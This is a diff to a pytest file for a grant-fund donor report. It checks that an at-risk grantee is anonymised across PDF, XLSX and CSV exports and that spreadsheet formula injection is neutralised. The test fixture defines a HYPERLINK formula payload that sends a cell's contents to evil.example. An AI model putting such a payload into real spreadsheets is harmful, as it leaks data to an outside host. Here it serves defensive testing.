@@ -8,6 +8,7 @@ import openpyxl
 import pytest
 from django.core.management import CommandError, call_command
 
+from fundops.disclosure import public_grant_reference
 from reports.builders import build_donor_report
 from reports.renderers import render
 from reports.selectors import Period
@@ -63,13 +64,16 @@ def test_at_risk_grantee_appears_nowhere_in_pdf_xlsx_or_csv(world, pdftotext, tm
     for label, content in [("PDF", text), ("XLSX", workbook_text), ("CSV", csv_text)]:
         for secret in secrets_of(hidden):
             assert secret not in content, f"{secret!r} leaked in the {label}"
-    # Counted, under its region and generated reference, so the totals still add up.
-    assert "Undisclosed organisation" in text and hidden.public_reference in text
-    assert "Eastern Africa — undisclosed countries" in text
-    assert "Undisclosed organisation" in workbook_text and hidden.public_reference in workbook_text
-    assert ",,Eastern Africa,1,1,8800.00,4349.20,USD" in csv_text
-    # The named grantees are shown as they are.
-    assert "Kituo cha Sheria Paralegals" in text and world["named"].reference in text
+    # Counted under its generated reference so the totals still add up — but, the only at-risk
+    # grantee, in the catch-all row, not in an "Eastern Africa" row that would be a group of one.
+    assert "Undisclosed organisation" in text and public_grant_reference(hidden) in text
+    assert "Eastern Africa — undisclosed countries" not in text
+    assert "Undisclosed countries and regions" in text
+    assert "Undisclosed organisation" in workbook_text and public_grant_reference(hidden) in workbook_text
+    assert ",Undisclosed countries and regions,Undisclosed (merged regions),1,1,8800.00,4349.20,USD" in csv_text
+    # The named grantees are shown by name, under their public reference, never the internal one.
+    assert "Kituo cha Sheria Paralegals" in text and public_grant_reference(world["named"]) in text
+    assert world["named"].reference not in text + workbook_text
 
 
 @pytest.mark.django_db
@@ -79,7 +83,7 @@ def test_csv_by_country_is_exactly_as_specified(world):
         "country_code,country,region,grants,organisations,committed,disbursed,currency",
         "KE,Kenya,Eastern Africa,2,2,9000.00,6500.00,USD",
         "UG,Uganda,Eastern Africa,1,1,5000.00,2500.00,USD",
-        ",,Eastern Africa,1,1,8800.00,4349.20,USD",
+        ",Undisclosed countries and regions,Undisclosed (merged regions),1,1,8800.00,4349.20,USD",
         "TOTAL,,,3,3,22800.00,13349.20,USD",
     ]
 
@@ -92,8 +96,10 @@ def test_xlsx_has_the_five_sheets_with_exact_amounts(world):
     assert by_country[0] == ("country_code", "country", "region", "grants", "organisations", "committed", "disbursed", "currency")
     assert by_country[-1][0] == "TOTAL" and Decimal(str(by_country[-1][6])) == Decimal("13349.20")
     payments = list(book["Payments"].iter_rows(values_only=True))
-    assert len(payments) == 4  # header + three paid payments
-    assert Decimal(str(payments[-1][6])) == Decimal("4349.20")  # 4000.00 EUR at the stored 1.0873
+    assert len(payments) == 4  # header + two named payments + the undisclosed one, folded
+    # 4000.00 EUR at the stored 1.0873, folded into its group's quarter in the base currency.
+    assert payments[-1][:4] == ("2026-Q2", None, "Undisclosed countries and regions", "USD")
+    assert Decimal(str(payments[-1][6])) == Decimal("4349.20")
 
 
 @pytest.mark.django_db
@@ -112,8 +118,57 @@ def test_pdf_shows_figures_charts_and_annex(world, pdftotext, tmp_path):
     text = pdf_text(pdftotext, render(build_donor_report(fund=world["named"].fund, period=YEAR, donor=donor), "pdf"), tmp_path)
     assert f"Prepared for {donor.name}" in text
     assert "13,349.20" in text  # disbursed, headline and table total
-    assert "Disbursed per country, USD" in text and "Disbursed per month, USD" in text
+    assert "Disbursed per country, USD" in text
+    # An undisclosed grantee was paid: money over time is shown by quarter, not month.
+    assert "Disbursed per quarter, USD" in text and "2026-Q1" in text and "Mar 2026" not in text
     assert "Annex: grants" in text and "Total: 3 grants" in text
+
+
+@pytest.mark.django_db
+def test_pdf_is_by_month_when_no_undisclosed_grantee_was_paid(fund, pdftotext, tmp_path):
+    pay(make_grant(fund, countries=["KE"], amount="4000"), "4000.00", "1", datetime.date(2026, 3, 13))
+    text = pdf_text(pdftotext, render(build_donor_report(fund=fund, period=YEAR), "pdf"), tmp_path)
+    assert "Disbursed per month, USD" in text and "Mar 2026" in text
+
+
+PAYLOAD = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
+
+
+@pytest.fixture
+def payload_world(fund):
+    """A grantee, an application, a fund and a donor all named with a spreadsheet formula."""
+    fund.name = PAYLOAD
+    fund.save()
+    factories.ContributionFactory(fund=fund, amount=Decimal("50000"), received_on=datetime.date(2026, 1, 10),
+                                  donor=factories.DonorFactory(name=PAYLOAD))
+    grant = make_grant(fund, countries=["KE"], amount="1000", name=PAYLOAD)
+    grant.application.title = PAYLOAD
+    grant.application.save()
+    pay(grant, "1000.00", "1", datetime.date(2026, 3, 13))
+    return fund
+
+
+@pytest.mark.django_db
+def test_xlsx_never_holds_a_formula_and_amounts_stay_numbers(payload_world):
+    donor = payload_world.contributions.get().donor
+    book = openpyxl.load_workbook(io.BytesIO(render(build_donor_report(fund=payload_world, period=YEAR, donor=donor), "xlsx")))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    texts = [str(cell.value) for cell in cells if isinstance(cell.value, str)]
+    assert "'" + PAYLOAD in texts  # the organisation's name, shown as text
+    assert not any(text.startswith(("=", "+", "-", "@")) for text in texts)
+    grants = list(book["Grants"].iter_rows(values_only=True))
+    assert isinstance(grants[1][4], (int, float)) and Decimal(str(grants[1][4])) == Decimal("1000")
+
+
+@pytest.mark.django_db
+def test_csv_never_starts_a_cell_with_a_formula(payload_world):
+    import csv
+
+    content = render(build_donor_report(fund=payload_world, period=YEAR), "csv").decode()
+    cells = [cell for row in csv.reader(io.StringIO(content)) for cell in row]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+    assert content.splitlines()[-1] == "TOTAL,,,1,1,1000.00,1000.00,USD"
 
 
 def test_pdf_fetches_nothing_but_our_static_files():
